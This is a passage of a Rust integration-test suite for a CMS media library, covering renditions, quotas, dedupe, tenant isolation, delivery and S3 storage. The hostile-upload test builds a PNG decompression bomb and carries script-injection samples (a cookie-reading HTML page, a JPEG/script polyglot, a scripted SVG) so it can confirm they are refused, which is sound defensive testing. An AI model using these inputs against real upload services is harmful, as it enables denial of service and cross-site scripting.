//! The media library end to end: uploads judged from their bytes, renditions
//! checked by an independent decoder (Pillow), quota under parallel
//! uploads, dedupe, usage and deletes, tenant isolation, delivery's
//! resolved images, regeneration after a preset change, and the S3 round
//! trip against a real S3 API server (moto).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::HashMap;
use std::process::Command;
use std::time::Duration;

use cms_tests::{
    demo_editors, gradient_jpeg, venv_python, InvalidationListener, TestApp, ALPHA_EDITOR,
    PLATFORM_ADMIN,
};
use diesel::RunQueryDsl;
use serde_json::{json, Value};

/// Pillow's view of an image file.
fn pillow_inspect(bytes: &[u8]) -> Value {
    let path = std::env::temp_dir().join(format!("cms-media-check-{}", uuid::Uuid::now_v7()));
    std::fs::write(&path, bytes).unwrap();
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("media/pillow.py");
    let out = Command::new(venv_python())
        .arg(&script)
        .arg("inspect")
        .arg(&path)
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&path);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A JPEG stored 2400 x 1600, red left and blue right, EXIF orientation 6
/// (displayed 1600 x 2400, red on top) with GPS tags, made by Pillow.
fn exif_rotated_jpeg() -> Vec<u8> {
    let path = std::env::temp_dir().join(format!("cms-exif-{}.jpg", uuid::Uuid::now_v7()));
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("media/pillow.py");
    let status = Command::new(venv_python())
        .arg(&script)
        .args(["make-exif-jpeg", path.to_str().unwrap(), "2400", "1600"])
        .status()
        .unwrap();
    assert!(status.success());
    let bytes = std::fs::read(&path).unwrap();
    let _ = std::fs::remove_file(&path);
    bytes
}

fn renditions(media: &Value) -> Vec<Value> {
    media["renditions"].as_array().cloned().unwrap_or_default()
}

fn has_avif(media: &Value) -> bool {
    renditions(media).iter().any(|r| r["format"] == "avif")
}

async fn admin(app: &TestApp) -> String {
    app.login(PLATFORM_ADMIN, Some("alpha")).await.access
}

#[tokio::test]
async fn an_exif_rotated_jpeg_with_gps_gets_upright_renditions_with_no_metadata() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let uploaded = app
        .upload(
            &editor,
            "holiday.jpg",
            exif_rotated_jpeg(),
            &[("alt", "A red and blue card"), ("tags", "cards, test")],
        )
        .await
        .expect(201)
        .body;
    assert_eq!(uploaded["kind"], "jpeg");
    assert_eq!(uploaded["file_name"], "holiday.jpg");
    assert_eq!(uploaded["tags"], json!(["cards", "test"]));
    let id = uploaded["id"].as_str().unwrap();
    let media = app
        .wait_media(&editor, id, |m| m["status"] == "ready" && has_avif(m))
        .await;
    // Displayed size: the orientation applied.
    assert_eq!(
        (media["width"].as_u64(), media["height"].as_u64()),
        (Some(1600), Some(2400))
    );
    assert!(media["placeholder"].as_str().is_some_and(|p| !p.is_empty()));
    assert!(media["placeholder_uri"]
        .as_str()
        .unwrap()
        .starts_with("data:image/png;base64,"));

    let all = renditions(&media);
    for format in ["webp", "avif", "jpeg"] {
        let mut widths: Vec<u64> = all
            .iter()
            .filter(|r| r["format"] == format && r.get("fill").is_none())
            .map(|r| r["width"].as_u64().unwrap())
            .collect();
        widths.sort_unstable();
        // 1920 would upscale a 1600-wide image: its own width instead.
        assert_eq!(widths, vec![320, 640, 960, 1280, 1600], "{format}: {all:?}");
        let fills: Vec<(u64, u64)> = all
            .iter()
            .filter(|r| r["format"] == format && r.get("fill").is_some())
            .map(|r| (r["width"].as_u64().unwrap(), r["height"].as_u64().unwrap()))
            .collect();
        assert!(
            fills.contains(&(600, 600)) && fills.contains(&(1200, 630)),
            "{format}: {fills:?}"
        );
    }
    for rendition in &all {
        let url = rendition["url"].as_str().unwrap();
        assert!(url.starts_with("/media/"), "{url}");
        let reply = app.client.get(app.url(url)).send().await.unwrap();
        assert_eq!(reply.status(), 200, "{url}");
        let headers = reply.headers().clone();
        let expected_type = match rendition["format"].as_str().unwrap() {
            "jpeg" => "image/jpeg",
            "webp" => "image/webp",
            "avif" => "image/avif",
            other => panic!("unexpected format {other}"),
        };
        assert_eq!(headers["content-type"], expected_type);
        assert_eq!(
            headers["cache-control"],
            "public, max-age=31536000, immutable"
        );
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert!(headers.contains_key("etag"));
        let bytes = reply.bytes().await.unwrap();
        let seen = pillow_inspect(&bytes);
        assert_eq!(
            seen["format"],
            rendition["format"].as_str().unwrap().to_uppercase(),
            "{url}"
        );
        assert_eq!(seen["width"], rendition["width"], "{url}");
        assert_eq!(seen["height"], rendition["height"], "{url}");
        assert_eq!(seen["exif_tags"], 0, "{url} kept EXIF: {seen}");
        assert_eq!(seen["gps"], 0, "{url} kept GPS: {seen}");
        assert_eq!(seen["info_keys"], json!([]), "{url} kept metadata: {seen}");
        if rendition.get("fill").is_none() {
            // Upright: the stored left (red) half is on top.
            let (top, bottom) = (&seen["top"], &seen["bottom"]);
            assert!(
                top[0].as_u64().unwrap() > 180 && top[2].as_u64().unwrap() < 80,
                "{url}: top {top}"
            );
            assert!(
                bottom[2].as_u64().unwrap() > 180 && bottom[0].as_u64().unwrap() < 80,
                "{url}: bottom {bottom}"
            );
        }
    }

    // One range, conditional requests, and never the original.
    let url = app.url(all[0]["url"].as_str().unwrap());
    let ranged = app
        .client
        .get(&url)
        .header("Range", "bytes=0-9")
        .send()
        .await
        .unwrap();
    assert_eq!(ranged.status(), 206);
    let total = all[0]["bytes"].as_u64().unwrap();
    assert_eq!(
        ranged.headers()["content-range"],
        format!("bytes 0-9/{total}").as_str()
    );
    assert_eq!(ranged.bytes().await.unwrap().len(), 10);
    let outside = app
        .client
        .get(&url)
        .header("Range", format!("bytes={total}-"))
        .send()
        .await
        .unwrap();
    assert_eq!(outside.status(), 416);
    let etag = app.client.get(&url).send().await.unwrap().headers()["etag"].clone();
    let again = app
        .client
        .get(&url)
        .header("If-None-Match", etag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 304);
    let original = url.rsplit_once('/').unwrap().0.to_owned() + "/original";
    assert_eq!(
        app.client.get(&original).send().await.unwrap().status(),
        404
    );
}

/// A PNG whose header claims `width` x `height`, with one tiny IDAT: a few
/// dozen bytes that would decode into gigabytes.
fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xFFFF_FFFFu32;
        for byte in bytes {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = if crc & 1 != 0 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend_from_slice(data);
        out.extend_from_slice(&body);
        out.extend_from_slice(&crc32(&body).to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend_from_slice(&width.to_be_bytes());
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &header);
    chunk(
        &mut out,
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A JPEG of noise: it does not compress.
fn noise_jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut state = 0x2545_F491_4F6C_DD1Du64;
    let image = image::RgbImage::from_fn(width, height, |_, _| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        image::Rgb([state as u8, (state >> 8) as u8, (state >> 16) as u8])
    });
    cms_tests::jpeg_of(&image, 90)
}

fn rss_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|rest| {
            rest.trim()
                .trim_end_matches("kB")
                .trim()
                .parse::<u64>()
                .ok()
        })
        .unwrap()
        * 1024
}

#[tokio::test]
async fn hostile_uploads_are_refused_from_their_bytes_and_nothing_is_written() {
    let app = TestApp::spawn_with(HashMap::from([(
        "CMS_MEDIA_MAX_BYTES",
        "300000".to_owned(),
    )]))
    .await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;

    // A decompression bomb: refused from its header, without decoding.
    let bomb = png_bomb(30_000, 30_000);
    assert!(bomb.len() < 4096);
    let before = rss_bytes();
    let refused = app
        .upload(&editor, "bomb.png", bomb, &[])
        .await
        .expect_problem(422);
    let grew = rss_bytes().saturating_sub(before);
    assert_eq!(refused.error_fields(), vec!["file"]);
    assert!(refused.text.contains("30000 x 30000"), "{}", refused.text);
    assert!(
        grew < 8 << 20,
        "the api grew by {grew} bytes on a header-only refusal"
    );

    let html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
        .to_vec();
    let reply = app
        .upload(&editor, "photo.jpg", html, &[])
        .await
        .expect_problem(422);
    assert_eq!(reply.error_fields(), vec!["file"]);

    let mut polyglot = gradient_jpeg(64, 64, 1);
    polyglot.extend_from_slice(b"<script>alert(1)</script>");
    let reply = app
        .upload(&editor, "polyglot.jpg", polyglot, &[])
        .await
        .expect_problem(422);
    assert!(reply.text.contains("polyglot"), "{}", reply.text);

    let svg = br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5"/></svg>"#.to_vec();
    let reply = app
        .upload(&editor, "logo.svg", svg, &[])
        .await
        .expect_problem(422);
    assert!(reply.text.contains("SVG"), "{}", reply.text);

    // Larger than CMS_MEDIA_MAX_BYTES: 413 before the rest is read.
    let big = noise_jpeg(700, 700);
    assert!(big.len() > 300_000, "{}", big.len());
    app.upload(&editor, "big.jpg", big, &[])
        .await
        .expect_problem(413);

    // No file, an unknown field, not a form at all.
    let form = reqwest::multipart::Form::new().text("alt", "no file");
    let reply = app
        .client
        .post(app.url("/api/v1/media"))
        .bearer_auth(&editor)
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(reply.status(), 422);
    app.post("/api/v1/media", &editor, json!({"file": "x"}))
        .await
        .expect_problem(400);

    assert_eq!(app.count_rows("media"), 0);
    let quota = app
        .get("/api/v1/media/quota", &editor)
        .await
        .expect(200)
        .body;
    assert_eq!(
        (quota["used_bytes"].as_i64(), quota["used_count"].as_i64()),
        (Some(0), Some(0))
    );
}

#[tokio::test]
async fn parallel_uploads_never_pass_the_quota() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let files: Vec<Vec<u8>> = (0..10u8)
        .map(|seed| gradient_jpeg(300, 200, seed * 20))
        .collect();
    let largest = files.iter().map(Vec::len).max().unwrap() as i64;
    let smallest = files.iter().map(Vec::len).min().unwrap() as i64;
    // Room for three files, whichever three arrive first.
    let max_bytes = 3 * largest + smallest / 2;
    assert!(max_bytes < 4 * smallest);
    let admin = admin(&app).await;
    app.send(
        reqwest::Method::PUT,
        "/api/v1/media/quota",
        Some(&admin),
        Some(&json!({"max_bytes": max_bytes})),
        &[],
    )
    .await
    .expect(200);
    let uploads = files.into_iter().enumerate().map(|(i, bytes)| {
        let (app, editor) = (&app, editor.clone());
        async move { app.upload(&editor, &format!("{i}.jpg"), bytes, &[]).await }
    });
    let replies = futures_util::future::join_all(uploads).await;
    let created = replies.iter().filter(|r| r.status == 201).count();
    let refused: Vec<_> = replies.iter().filter(|r| r.status == 422).collect();
    assert_eq!(
        created,
        3,
        "{:?}",
        replies.iter().map(|r| r.status).collect::<Vec<_>>()
    );
    assert_eq!(refused.len(), 7);
    assert!(refused.iter().all(|r| r.text.contains("quota")));
    let quota = app
        .get("/api/v1/media/quota", &editor)
        .await
        .expect(200)
        .body;
    let used = quota["used_bytes"].as_i64().unwrap();
    assert!(used <= max_bytes, "{used} > {max_bytes}");
    assert_eq!(quota["used_count"], 3);
    assert_eq!(app.count_rows("media"), 3);
    // What is stored agrees: three originals on disk, within the quota.
    let dir = match &app.config.media.storage {
        cms_api::config::MediaStorage::Local(dir) => dir.clone(),
        other => panic!("{other:?}"),
    };
    let mut originals = 0u64;
    let mut stored = 0u64;
    for tenant in std::fs::read_dir(&dir).unwrap() {
        for hash in std::fs::read_dir(tenant.unwrap().path()).unwrap() {
            let original = hash.unwrap().path().join("original");
            if let Ok(meta) = std::fs::metadata(&original) {
                originals += 1;
                stored += meta.len();
            }
        }
    }
    assert_eq!(originals, 3);
    assert!(stored as i64 <= max_bytes);
}

#[tokio::test]
async fn the_same_bytes_finish_an_upload_whose_process_died_before_storing_them() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let bytes = gradient_jpeg(640, 480, 21);
    let first = app
        .upload(&editor, "a.jpg", bytes.clone(), &[("alt", "Gradient")])
        .await
        .expect(201)
        .body;
    let id = first["id"].as_str().unwrap().to_owned();
    app.wait_media(&editor, &id, |m| m["status"] == "ready")
        .await;
    // As a process that died between reserving and storing leaves it: the
    // row `uploading`, no original, no renditions, no job.
    let dir = match &app.config.media.storage {
        cms_api::config::MediaStorage::Local(dir) => dir.clone(),
        other => panic!("{other:?}"),
    };
    let sha = app
        .get(&format!("/api/v1/media/{id}"), &editor)
        .await
        .expect(200)
        .body["renditions"][0]["url"]
        .as_str()
        .unwrap()
        .split('/')
        .rev()
        .nth(1)
        .unwrap()
        .to_owned();
    let tenant_dir = std::fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.join(&sha).exists())
        .unwrap();
    std::fs::remove_dir_all(tenant_dir.join(&sha)).unwrap();
    diesel::sql_query(format!(
        "UPDATE media SET status = 'uploading', renditions = '[]', presets = NULL WHERE id = '{id}'"
    ))
    .execute(&mut app.admin_connection())
    .unwrap();
    diesel::sql_query("DELETE FROM jobs WHERE kind LIKE 'media.%'")
        .execute(&mut app.admin_connection())
        .unwrap();

    let again = app
        .upload(&editor, "b.jpg", bytes, &[])
        .await
        .expect(200)
        .body;
    assert_eq!(again["id"], first["id"]);
    assert_ne!(again["status"], "uploading", "{again}");
    assert!(tenant_dir.join(&sha).join("original").exists());
    let ready = app
        .wait_media(&editor, &id, |m| m["status"] == "ready")
        .await;
    assert!(!renditions(&ready).is_empty());
    assert_eq!(app.count_rows("media"), 1);
}

/// Adds a hero block showing `image` to a new page of the tenant's first
/// site, publishes it; answers (page id, block id, site id).
async fn page_showing(
    app: &TestApp,
    token: &str,
    path: &str,
    image: Value,
) -> (String, String, String) {
    let site = app.first_site(token).await;
    let page = app
        .post(
            &format!("/api/v1/sites/{site}/pages"),
            token,
            json!({"path": path, "title": "Media"}),
        )
        .await
        .expect(201)
        .body;
    let page_id = page["id"].as_str().unwrap().to_owned();
    let block = app
        .post(
            &format!("/api/v1/pages/{page_id}/blocks"),
            token,
            json!({"module": "hero", "props": {"title": "Hello", "image": image}}),
        )
        .await
        .expect(201)
        .body;
    app.publish(token, &page_id).await.expect(200);
    (page_id, block["id"].as_str().unwrap().to_owned(), site)
}

#[tokio::test]
async fn identical_bytes_are_one_media_and_a_used_media_is_not_deleted() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let bytes = gradient_jpeg(800, 600, 7);
    let first = app
        .upload(&editor, "a.jpg", bytes.clone(), &[("alt", "Gradient")])
        .await
        .expect(201)
        .body;
    let second = app
        .upload(&editor, "b.jpg", bytes, &[])
        .await
        .expect(200)
        .body;
    assert_eq!(first["id"], second["id"]);
    assert_eq!(app.count_rows("media"), 1);
    let id = first["id"].as_str().unwrap().to_owned();

    // Alt text is required to show an image unless it is decorative.
    let bare = app
        .upload(&editor, "c.jpg", gradient_jpeg(400, 300, 9), &[])
        .await
        .expect(201)
        .body;
    let bare_id = bare["id"].as_str().unwrap().to_owned();
    let site = app.first_site(&editor).await;
    let page = app
        .post(
            &format!("/api/v1/sites/{site}/pages"),
            &editor,
            json!({"path": "/alt-check", "title": "Alt"}),
        )
        .await
        .expect(201)
        .body;
    let page_id = page["id"].as_str().unwrap();
    let refused = app
        .post(
            &format!("/api/v1/pages/{page_id}/blocks"),
            &editor,
            json!({"module": "hero", "props": {"title": "x", "image": {"media": bare_id}}}),
        )
        .await
        .expect_problem(422);
    assert_eq!(refused.error_fields(), vec!["props.image.alt"]);
    // The block's own alt text will do; so does marking the media decorative.
    app.post(
        &format!("/api/v1/pages/{page_id}/blocks"),
        &editor,
        json!({"module": "hero", "props": {"title": "x", "image": {"media": bare_id, "alt": "A gradient"}}}),
    )
    .await
    .expect(201);
    // Its renditions job changes the media too (status, renditions): read the
    // ETag once it is done, or the edit races it.
    app.wait_media(&editor, &bare_id, |m| m["status"] == "ready")
        .await;
    let etag = app
        .get(&format!("/api/v1/media/{bare_id}"), &editor)
        .await
        .expect(200)
        .headers["etag"]
        .to_str()
        .unwrap()
        .to_owned();
    app.send(
        reqwest::Method::PATCH,
        &format!("/api/v1/media/{bare_id}"),
        Some(&editor),
        Some(&json!({"decorative": true})),
        &[("If-Match", &etag)],
    )
    .await
    .expect(200);
    app.post(
        &format!("/api/v1/pages/{page_id}/blocks"),
        &editor,
        json!({"module": "hero", "props": {"title": "x", "image": {"media": bare_id}}}),
    )
    .await
    .expect(201);

    let (used_page, block, _) =
        page_showing(&app, &editor, "/media-used", json!({"media": id})).await;
    let in_use = app
        .delete(&format!("/api/v1/media/{id}"), &editor)
        .await
        .expect_problem(409);
    let used_by = in_use.body["used_by"].as_array().unwrap().clone();
    assert!(
        used_by.iter().any(|u| u["kind"] == "block"
            && u["id"] == used_page.as_str()
            && u["block_id"] == block.as_str()),
        "{used_by:?}"
    );
    assert!(
        used_by
            .iter()
            .any(|u| u["kind"] == "published" && u["label"] == "/media-used"),
        "{used_by:?}"
    );
    let usage = app
        .get(&format!("/api/v1/media/{id}/usage"), &editor)
        .await
        .expect(200)
        .body;
    assert_eq!(usage["items"].as_array().unwrap().len(), used_by.len());
    // The unused filter leaves it out; the text filter finds it by alt text.
    let unused = app
        .get("/api/v1/media?unused=true", &editor)
        .await
        .expect(200)
        .body;
    assert!(!unused["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m["id"] == id.as_str()));
    let found = app
        .get("/api/v1/media?q=gradi", &editor)
        .await
        .expect(200)
        .body;
    assert!(found["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m["id"] == id.as_str()));

    // Forced deletes are for admins; the live page keeps its image until
    // the next publish, which is refused while a block still shows it.
    app.delete(&format!("/api/v1/media/{id}?force=true"), &editor)
        .await
        .expect_problem(403);
    let media = app
        .wait_media(&editor, &id, |m| m["status"] == "ready")
        .await;
    let admin = admin(&app).await;
    app.delete(&format!("/api/v1/media/{id}?force=true"), &admin)
        .await
        .expect(204);
    app.get(&format!("/api/v1/media/{id}"), &editor)
        .await
        .expect_problem(404);
    let url = media["renditions"][0]["url"].as_str().unwrap();
    assert_eq!(
        app.client.get(app.url(url)).send().await.unwrap().status(),
        200
    );
    let republish = app.publish(&editor, &used_page).await.expect_problem(422);
    assert!(
        republish
            .error_fields()
            .iter()
            .any(|f| f.ends_with("image.media")),
        "{}",
        republish.text
    );
}

#[tokio::test]
async fn tenant_b_cannot_list_read_change_delete_or_use_a_media_of_tenant_a() {
    let app = TestApp::spawn().await;
    let (alpha, beta) = demo_editors(&app).await;
    let uploaded = app
        .upload(
            &alpha.access,
            "a.jpg",
            gradient_jpeg(320, 200, 5),
            &[("alt", "Alpha only")],
        )
        .await
        .expect(201)
        .body;
    let id = uploaded["id"].as_str().unwrap();
    let listed = app
        .get("/api/v1/media", &beta.access)
        .await
        .expect(200)
        .body;
    assert!(!listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m["id"] == id));
    app.get(&format!("/api/v1/media/{id}"), &beta.access)
        .await
        .expect_problem(404);
    app.get(&format!("/api/v1/media/{id}/usage"), &beta.access)
        .await
        .expect_problem(404);
    app.send(
        reqwest::Method::PATCH,
        &format!("/api/v1/media/{id}"),
        Some(&beta.access),
        Some(&json!({"alt": "mine now"})),
        &[("If-Match", "\"1\"")],
    )
    .await
    .expect_problem(404);
    app.delete(&format!("/api/v1/media/{id}?force=true"), &beta.access)
        .await
        .expect_problem(403);
    app.delete(&format!("/api/v1/media/{id}"), &beta.access)
        .await
        .expect_problem(404);
    let site = app.first_site(&beta.access).await;
    let page = app
        .post(
            &format!("/api/v1/sites/{site}/pages"),
            &beta.access,
            json!({"path": "/steal", "title": "x"}),
        )
        .await
        .expect(201)
        .body;
    let refused = app
        .post(
            &format!("/api/v1/pages/{}/blocks", page["id"].as_str().unwrap()),
            &beta.access,
            json!({"module": "hero", "props": {"title": "x", "image": {"media": id, "alt": "x"}}}),
        )
        .await
        .expect_problem(422);
    assert_eq!(refused.error_fields(), vec!["props.image.media"]);
    // Still there for its owner.
    app.get(&format!("/api/v1/media/{id}"), &alpha.access)
        .await
        .expect(200);
}

/// The hero image of a delivered page.
async fn delivered_image(app: &TestApp, site: &str, path: &str) -> Value {
    let page = app
        .public(
            &format!("/api/v1/delivery/sites/{site}/pages?path={path}"),
            &[],
        )
        .await
        .expect(200)
        .body;
    page["blocks"][0]["props"]["image"].clone()
}

#[tokio::test]
async fn delivery_resolves_media_and_regenerating_new_presets_replaces_renditions() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let media = app
        .upload_ready(
            &editor,
            "team.jpg",
            gradient_jpeg(1000, 700, 11),
            "Our team",
        )
        .await;
    let id = media["id"].as_str().unwrap().to_owned();
    let (_, _, site) = page_showing(
        &app,
        &editor,
        "/team",
        json!({"media": id, "alt": "The team at work"}),
    )
    .await;

    // The published snapshot holds the resolved image; AVIF made after the
    // publish reaches the live page without a new revision.
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let image = loop {
        let image = delivered_image(&app, &site, "/team").await;
        if image["sources"]["avif"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
        {
            break image;
        }
        if std::time::Instant::now() > deadline {
            let jobs = app
                .get("/api/v1/jobs?kind=media.avif", &admin(&app).await)
                .await
                .body;
            panic!("AVIF never reached delivery: {image}; jobs {jobs}");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(image["media"], id.as_str());
    assert_eq!(image["alt"], "The team at work");
    assert_eq!(
        (image["width"].as_u64(), image["height"].as_u64()),
        (Some(1000), Some(700))
    );
    assert!(image["src"].as_str().unwrap().ends_with(".jpg"));
    assert!(image["placeholder"]
        .as_str()
        .unwrap()
        .starts_with("data:image/png;base64,"));
    let webp: Vec<u64> = image["sources"]["webp"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["width"].as_u64().unwrap())
        .collect();
    assert_eq!(webp, vec![320, 640, 960, 1000]);
    assert_eq!(
        media["presets"].as_str().unwrap(),
        app.config.media.presets_version()
    );

    // New presets on a new node (the old one stops, as in a deploy).
    app.handle.stop(true).await;
    let mut config = app.config.clone();
    config.listen_addr = "127.0.0.1:0".parse().unwrap();
    config.media.widths = vec![400, 800];
    let new_presets = config.media.presets_version();
    let node = cms_api::Application::build(config).await.unwrap();
    let base = format!("http://127.0.0.1:{}", node.port());
    tokio::spawn(node.run_until_stopped());
    let client = reqwest::Client::new();
    let admin_login = client
        .post(format!("{base}/api/v1/auth/login"))
        .json(&json!({"email": PLATFORM_ADMIN, "password": cms_tests::DEMO_PASSWORD, "tenant": "alpha"}))
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap();
    let admin = admin_login["access_token"].as_str().unwrap().to_owned();
    // A renderer has the page cached with the old renditions.
    let renderer = cms_tests::TestRenderer::spawn(
        &base,
        Some(&cms_tests::redis_url()),
        &app.config.redis_prefix,
        HashMap::new(),
    )
    .await;
    let (status, _, html) = renderer.get("alpha.localhost", "/team").await;
    assert_eq!(status, 200);
    assert!(html.contains(" 1000w\""), "{html}");
    let started = client
        .post(format!("{base}/api/v1/media/regenerate"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(started.status(), 202);
    let started: Value = started.json().await.unwrap();
    assert_eq!(started["presets"], new_presets.as_str());
    assert_eq!(started["enqueued"], 1);
    let jobs: Value = client
        .get(format!("{base}/api/v1/jobs?kind=media.renditions"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(!jobs["items"].as_array().unwrap().is_empty(), "{jobs}");
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let image = loop {
        let page: Value = client
            .get(format!(
                "{base}/api/v1/delivery/sites/{site}/pages?path=/team"
            ))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let image = page["blocks"][0]["props"]["image"].clone();
        let widths: Vec<u64> = image["sources"]["webp"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["width"].as_u64().unwrap())
            .collect();
        if widths == vec![400, 800] {
            break image;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "new renditions never reached delivery: {image}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(image["alt"], "The team at work");
    // The media's invalidation reaches the renderer: it shows the new ones.
    let shown = std::time::Instant::now() + Duration::from_secs(5);
    loop {
        let (_, _, html) = renderer.get("alpha.localhost", "/team").await;
        if html.contains(" 400w, ") && html.contains(" 800w\"") && !html.contains(" 1000w") {
            break;
        }
        assert!(
            std::time::Instant::now() < shown,
            "the renderer still shows the old renditions: {html}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // The old renditions are gone; the new ones are served.
    let old = media["renditions"][0]["url"].as_str().unwrap();
    assert_eq!(
        client
            .get(format!("{base}{old}"))
            .send()
            .await
            .unwrap()
            .status(),
        404
    );
    let new = image["sources"]["webp"][0]["src"].as_str().unwrap();
    assert_eq!(
        client
            .get(format!("{base}{new}"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
}

/// A moto S3 server on a free port, killed on drop.
struct S3Server {
    child: std::process::Child,
    endpoint: String,
}

impl S3Server {
    async fn start() -> Self {
        cms_api::app::install_tls_provider();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let moto = venv_python().parent().unwrap().join("moto_server");
        let child = Command::new(moto)
            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("moto_server (make tools)");
        // Owned by the guard at once: a failed start still kills it.
        let server = S3Server {
            child,
            endpoint: format!("http://127.0.0.1:{port}"),
        };
        let client = reqwest::Client::new();
        for _ in 0..200 {
            if client
                .put(format!("{}/media", server.endpoint))
                .send()
                .await
                .is_ok_and(|r| r.status().is_success())
            {
                return server;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("moto_server did not start");
    }
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[tokio::test]
async fn media_round_trip_through_a_real_s3_server() {
    let s3 = S3Server::start().await;
    let app = TestApp::spawn_with(HashMap::from([
        ("CMS_MEDIA_S3_BUCKET", "media".to_owned()),
        ("CMS_MEDIA_S3_ENDPOINT", s3.endpoint.clone()),
        ("CMS_MEDIA_S3_ACCESS_KEY_ID", "test".to_owned()),
        ("CMS_MEDIA_S3_SECRET_ACCESS_KEY", "test".to_owned()),
    ]))
    .await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let media = app
        .upload_ready(
            &editor,
            "s3.jpg",
            gradient_jpeg(700, 500, 13),
            "Stored in S3",
        )
        .await;
    let id = media["id"].as_str().unwrap().to_owned();
    let tenant = media["renditions"][0]["url"]
        .as_str()
        .unwrap()
        .split('/')
        .nth(2)
        .unwrap()
        .to_owned();
    let sha = media["renditions"][0]["url"]
        .as_str()
        .unwrap()
        .split('/')
        .nth(3)
        .unwrap()
        .to_owned();
    // The objects are in the bucket (read back with our own S3 client).
    let store = cms_api::media::storage::MediaStore::s3(
        "media",
        Some(&s3.endpoint),
        "us-east-1",
        "test",
        "test",
    )
    .unwrap();
    let original = cms_api::media::storage::MediaKey {
        tenant: tenant.parse().unwrap(),
        sha256: sha.clone(),
        variant: "original".into(),
    };
    assert!(store.size(&original).await.unwrap().is_some());
    for rendition in renditions(&media) {
        let url = rendition["url"].as_str().unwrap();
        let reply = app
            .client
            .get(app.url(url))
            .header("Range", "bytes=0-3")
            .send()
            .await
            .unwrap();
        assert_eq!(reply.status(), 206, "{url}");
        let full = app.client.get(app.url(url)).send().await.unwrap();
        assert_eq!(full.status(), 200);
        let bytes = full.bytes().await.unwrap();
        assert_eq!(bytes.len() as u64, rendition["bytes"].as_u64().unwrap());
        let seen = pillow_inspect(&bytes);
        assert_eq!(seen["width"], rendition["width"]);
    }
    // Deleting an unused media deletes its objects.
    app.delete(&format!("/api/v1/media/{id}"), &editor)
        .await
        .expect(204);
    assert!(store.size(&original).await.unwrap().is_none());
    let url = media["renditions"][0]["url"].as_str().unwrap();
    assert_eq!(
        app.client.get(app.url(url)).send().await.unwrap().status(),
        404
    );
}

#[tokio::test]
async fn the_renderer_shows_uploaded_images_in_modern_formats_and_serves_their_files() {
    let app = TestApp::spawn().await;
    let editor = app.login(ALPHA_EDITOR, None).await.access;
    let media = app
        .upload_ready(&editor, "hall.jpg", gradient_jpeg(900, 600, 5), "The hall")
        .await;
    let id = media["id"].as_str().unwrap().to_owned();
    let (_, _, site) = page_showing(&app, &editor, "/hall", json!({"media": id})).await;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let image = loop {
